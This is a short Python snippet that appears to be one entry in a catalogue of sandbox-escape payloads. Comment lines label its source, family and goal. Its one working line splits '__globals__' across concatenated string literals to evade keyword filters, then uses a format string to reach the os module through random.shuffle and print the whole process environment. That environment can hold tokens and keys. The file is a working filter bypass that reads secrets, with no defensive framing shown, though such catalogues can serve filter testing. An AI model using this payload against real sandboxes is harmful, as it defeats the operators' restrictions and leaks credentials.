# source: pyjail format-string attribute read; differential = implicit string concatenation
# family: implicit concatenation "{" "0.attr}" .format(obj)
# goal: random.shuffle.__globals__['_os'].environ -> dumps process environment via os module
import random
print("{" "0._" "_globals_" "_[_os].environ}".format(random.shuffle))
